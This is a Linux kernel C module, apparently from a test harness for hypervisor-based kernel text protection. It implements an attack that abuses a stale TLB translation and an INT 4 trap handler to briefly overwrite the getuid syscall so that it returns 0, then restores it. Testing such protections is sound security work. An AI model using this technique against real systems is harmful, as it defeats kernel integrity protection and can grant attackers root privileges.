// SPDX-License-Identifier: GPL-2.0-only
/*
 * Overwrites kernel text while a hypervisor lets the CPU write it once: the
 * instruction that it steps over is not the one that it saw. The translation of
 * a page of code changes, and the CPU still has the old one. The instruction of
 * the old page writes text, and faults; the one of the new page is run in its
 * place. That is INT, which clears the trap flag: the handler runs without a
 * trap, overwrites text, and puts it back.
 */
#include <linux/irqflags.h>
#include <linux/kdebug.h>
#include <linux/kernel.h>
#include <linux/mm.h>
#include <linux/string.h>
#include <linux/vmalloc.h>
#include <asm/pgtable.h>
#include <asm/tlbflush.h>
#include <asm/trapnr.h>
#include <asm/tsc.h>

#include "attacks.h"

/* endbr64; then mov %sil,(%rdi), or int $4 and nop; ret */
static const u8 write_code[] = { 0xf3, 0x0f, 0x1e, 0xfa, 0x40, 0x88, 0x37, 0xc3 };
static const u8 trap_code[] = { 0xf3, 0x0f, 0x1e, 0xfa, 0xcd, 0x04, 0x90, 0xc3 };
#define BEHIND_INT	6

static const u8 return_zero[] = { 0x31, 0xc0, 0xc3 };	/* xor %eax,%eax; ret */

static struct {
	u8 *code, *alias, old[sizeof(return_zero)];
	struct attack *attack;
	bool trapped;
} swap;

static int on_trap(struct notifier_block *unused, unsigned long event, void *data)
{
	const struct die_args *args = data;

	if (event != DIE_TRAP || args->trapnr != X86_TRAP_OF ||
	    args->regs->ip != (unsigned long)swap.code + BEHIND_INT)
		return NOTIFY_DONE;
	swap.trapped = true;
	swap.attack->tsc = rdtsc_ordered();
	overwrite(swap.alias, return_zero, sizeof(return_zero));
	attack_done(swap.attack);
	overwrite(swap.alias, swap.old, sizeof(swap.old));
	return NOTIFY_STOP;
}

static struct notifier_block trap_notifier = { .notifier_call = on_trap };

/* Makes @at executable memory of @page, without a flush. */
static void map(u8 *at, struct page *page)
{
	unsigned int level;
	pte_t *entry = lookup_address((unsigned long)at, &level);

	set_pte(entry, mk_pte(page, PAGE_KERNEL_EXEC));
}

static int swap_run(struct page *pages[2], u8 *at)
{
	void (*run)(u8 *to, unsigned long value) = (void *)swap.code;
	unsigned long flags;
	u8 other = 0;

	memcpy(page_address(pages[0]), write_code, sizeof(write_code));
	memcpy(page_address(pages[1]), trap_code, sizeof(trap_code));
	local_irq_save(flags);
	map(swap.code, pages[0]);
	asm volatile("invlpg (%0)" : : "r"(swap.code) : "memory");
	run(&other, 1);
	map(swap.code, pages[1]);
	run(swap.alias, *at);
	local_irq_restore(flags);
	return swap.trapped ? 0 : -EAGAIN;
}

static int swap_begin(struct attack *attack, char *unused)
{
	u8 *at = (u8 *)symbol("__x64_sys_getuid");
	struct page *pages[2] = { alloc_page(GFP_KERNEL), alloc_page(GFP_KERNEL) };
	int error = -ENOMEM;

	if (!at || !pages[0] || !pages[1])
		goto out;
	swap.code = vmap(pages, 1, VM_MAP, PAGE_KERNEL);
	swap.alias = alias_map(at);
	if (!swap.code || !swap.alias)
		goto out_unmap;
	memcpy(swap.old, at, sizeof(swap.old));
	swap.attack = attack;
	swap.trapped = false;
	snprintf(attack->about, sizeof(attack->about), "%pS", at);
	register_die_notifier(&trap_notifier);
	error = swap_run(pages, at);
	unregister_die_notifier(&trap_notifier);
	map(swap.code, pages[0]);
out_unmap:
	if (swap.alias)
		alias_unmap(swap.alias);
	vunmap(swap.code);
out:
	if (pages[0])
		__free_page(pages[0]);
	if (pages[1])
		__free_page(pages[1]);
	return error;
}

static void swap_undo(struct attack *attack)
{
}

static bool swap_present(struct attack *attack)
{
	return false;
}

struct attack patch_swapped = {
	.name = "patch-swapped",
	.begin = swap_begin,
	.undo = swap_undo,
	.present = swap_present,
};
